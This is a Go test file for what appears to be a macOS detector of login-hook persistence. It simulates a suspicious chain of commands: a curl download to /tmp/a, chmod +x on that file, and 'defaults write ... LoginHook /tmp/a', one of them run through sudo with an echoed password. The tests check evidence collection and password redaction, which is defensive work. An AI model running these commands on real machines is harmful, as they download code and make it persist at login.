package agent

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"hooksnare/agent/document"
	"hooksnare/collector/eslogger/synthetic"
	"hooksnare/pkg/alert"
)

// lines are the command lines of evidence.
func lines(list []alert.Command) []string {
	var out []string
	for _, c := range list {
		out = append(out, c.Executable+": "+c.CommandLine)
	}
	return out
}

// last returns the evidence of the last alert.
func (f *feed) last() *alert.Alert {
	f.t.Helper()
	if len(f.got) == 0 {
		f.t.Fatal("got no alert")
	}
	return f.got[len(f.got)-1]
}

// TestEvidenceRecent has commands of one user and of others before a hook is set.
func TestEvidenceRecent(t *testing.T) {
	f := newFeed(t, nil)
	root := f.Daemon("com.example.job", synthetic.AsRoot, synthetic.Spec{Path: "/usr/libexec/job"})
	f.Run(f.Shell(), synthetic.Spec{Path: "/usr/bin/curl", Args: []string{"curl", "-o", "/tmp/a", "http://198.51.100.7/"}})
	f.Run(root, synthetic.Spec{Path: "/bin/ls"})
	// One process that becomes another image with the same arguments, while others run.
	args := []string{"sh", "-c", "chmod +x /tmp/a"}
	sh := f.Start(f.Shell(), synthetic.Spec{Path: "/bin/sh", Args: args})
	f.Run(f.Shell(), synthetic.Spec{Path: "/bin/date"})
	f.Exec(sh, synthetic.Spec{Path: "/bin/bash", Args: args})
	f.Exec(sh, synthetic.Spec{Path: "/bin/chmod", Args: []string{"chmod", "+x", "/tmp/a"}})
	f.Exit(sh, 0)
	// Two processes of the same arguments are two.
	f.Run(f.Shell(), synthetic.Spec{Path: "/bin/sleep", Args: []string{"sleep", "1"}})
	f.Run(f.Shell(), synthetic.Spec{Path: "/bin/sleep", Args: []string{"sleep", "1"}})
	f.set("/tmp/a")
	got := lines(f.last().Hooksnare.Evidence.Recent)
	want := []string{
		"/usr/bin/curl: curl -o /tmp/a http://198.51.100.7/",
		"/bin/date: date",
		"/bin/bash: sh -c chmod +x /tmp/a",
		"/bin/chmod: chmod +x /tmp/a",
		"/bin/sleep: sleep 1",
		"/bin/sleep: sleep 1",
	}
	if len(got) < len(want) || !slices.Equal(got[len(got)-len(want):], want) {
		t.Errorf("recent: got\n%s\nwant at its end\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, c := range got {
		if strings.Contains(c, "/bin/ls") {
			t.Errorf("recent: got %q, which another user ran", c)
		}
	}
}

// TestEvidenceOwnCommand has the command itself run by way of another image.
func TestEvidenceOwnCommand(t *testing.T) {
	f := newFeed(t, nil)
	args := []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/a"}
	p := f.Start(f.Shell(), synthetic.Spec{Path: "/opt/shim", Args: args})
	f.Exec(p, synthetic.Spec{Path: "/usr/bin/defaults", Args: args})
	for _, c := range lines(f.last().Hooksnare.Evidence.Recent) {
		if strings.Contains(c, "LoginHook") {
			t.Errorf("recent: got %q, which is the command itself", c)
		}
	}
}

func TestEvidenceBounds(t *testing.T) {
	f := newFeed(t, nil)
	shell := f.Shell()
	for range 40 {
		shell = f.Start(shell, synthetic.Spec{Path: "/bin/zsh"})
	}
	for i := range 50 {
		f.Run(shell, synthetic.Spec{Path: "/bin/echo", Args: []string{"echo", fmt.Sprint(i)}})
	}
	f.Run(shell, synthetic.Spec{Path: "/usr/bin/defaults", Args: []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/a"}})
	e := f.last().Hooksnare.Evidence
	if len(e.Lineage) != document.MaxLineage || len(e.Recent) != document.MaxRecent {
		t.Errorf("got %d ancestors and %d commands, want %d and %d", len(e.Lineage), len(e.Recent), document.MaxLineage, document.MaxRecent)
	}
	if got, want := lines(e.Recent), "/bin/echo: echo 49"; got[len(got)-1] != want {
		t.Errorf("recent: got last %q, want %q", got[len(got)-1], want)
	}
	if got, want := e.Lineage[0].EntityID, f.last().Process.Parent.EntityID; got != want {
		t.Errorf("lineage: got first %s, want the parent %s", got, want)
	}
}

// TestEvidenceRedacted keeps a password out of the whole alert.
func TestEvidenceRedacted(t *testing.T) {
	f := newFeed(t, nil)
	sh := f.Sh(f.Shell(), "echo hunter2 | sudo -S defaults write com.apple.loginwindow LoginHook /tmp/a")
	p := f.Sudo(sh, synthetic.Spec{Path: "/usr/bin/defaults", Args: []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/a"}}, "-S")
	f.EndSudo(p)
	a := f.last()
	line, err := a.Line()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(line), "hunter2") {
		t.Errorf("the password is in %s", line)
	}
	if e := a.Hooksnare.Evidence; e.Redacted == 0 || e.LoginUser == nil || e.LoginUser.ID != "501" {
		t.Errorf("evidence: got %d secrets taken out, login user %+v; want some, and user 501", e.Redacted, e.LoginUser)
	}
}

// TestEvidenceResponsible tells of the process that macOS holds responsible, also when it
// was never seen.
func TestEvidenceResponsible(t *testing.T) {
	f := newFeed(t, nil)
	f.set("/tmp/a")
	x := f.last().Process.Ext
	if x == nil || x.EffectiveParent == nil || !strings.HasSuffix(x.EffectiveParent.Executable, "/Terminal") {
		t.Errorf("got %+v, want the terminal", x)
	}
	stranger := f.Adopt(f.Launchd(), 90_000, synthetic.Spec{Path: "/bin/zsh"})
	f.Run(stranger, synthetic.Spec{Path: "/usr/bin/defaults", Args: []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", "/tmp/b"}})
	a := f.last()
	// Its fork was seen, so that its parent is known by what the fork says of it.
	if p := a.Process.Parent; p == nil || p.PID != 90_000 {
		t.Errorf("parent that ran before the stream: got %+v, want pid 90000", p)
	}
}
